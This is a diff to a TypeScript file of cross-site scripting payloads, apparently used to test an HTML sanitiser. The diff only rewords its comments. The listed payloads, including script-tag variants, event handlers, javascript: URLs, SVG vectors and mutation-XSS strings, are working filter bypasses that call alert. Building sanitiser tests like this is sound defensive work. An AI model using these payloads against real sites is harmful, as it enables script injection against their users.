@@ -1,10 +1,9 @@
 /**
- * Ways to run a script through HTML, after the shapes that the public collections
- * keep (OWASP, PortSwigger, html5sec, the tests of DOMPurify and sanitize-html).
- * Whatever runs calls `alert`.
+ * HTML that tries to run a script, modelled on public collections (OWASP, PortSwigger,
+ * html5sec, the tests of DOMPurify and sanitize-html). Every payload calls `alert`.
  */
 export const xssPayloads: readonly string[] = [
-  // Elements that run by themselves, in every spelling.
+  // Script elements in various spellings.
   '<script>alert(1)</script>',
   '<ScRiPt>alert(1)</sCrIpT>',
   '<script/x>alert(1)</script/x>',
@@ -30,7 +29,7 @@ export const xssPayloads: readonly string[] = [
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
 
-  // Handlers on elements of every kind.
+  // Event handlers.
   '<img src=x onerror=alert(1)>',
   '<img src=x onerror="alert(1)"//',
   '<img/src=x/onerror=alert(1)>',
@@ -71,7 +70,7 @@ export const xssPayloads: readonly string[] = [
   '<p/onclick=alert(1)//>x',
   '<p title="a" onclick="alert(1)" title="b">x</p>',
 
-  // Addresses that run.
+  // URLs that run scripts.
   '<a href="javascript:alert(1)">x</a>',
   '<a href="JaVaScRiPt:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
@@ -121,7 +120,7 @@ export const xssPayloads: readonly string[] = [
   '<link rel=stylesheet href="data:,*{x:expression(alert(1))}">',
   '<link rel=import href="data:text/html,<script>alert(1)</script>">',
 
-  // Documents inside the document.
+  // Embedded documents.
   '<iframe src="javascript:alert(1)"></iframe>',
   '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
   '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
@@ -137,7 +136,7 @@ export const xssPayloads: readonly string[] = [
   '<p><template shadowrootmode=open><script>alert(1)</script></template></p>',
   '<slot onslotchange=alert(1)><b>x</b></slot>',
 
-  // Other languages inside HTML.
+  // SVG, MathML and other XML in HTML.
   '<svg onload=alert(1)>',
   '<svg/onload=alert(1)//',
   '<svg><script>alert(1)</script></svg>',
@@ -160,7 +159,7 @@ export const xssPayloads: readonly string[] = [
   '<?php echo "<script>alert(1)</script>" ?>',
   '<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>&x;',
 
-  // What is one thing to a sanitiser and another to a browser.
+  // Mutation XSS: HTML that sanitisers and browsers parse differently.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
   '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
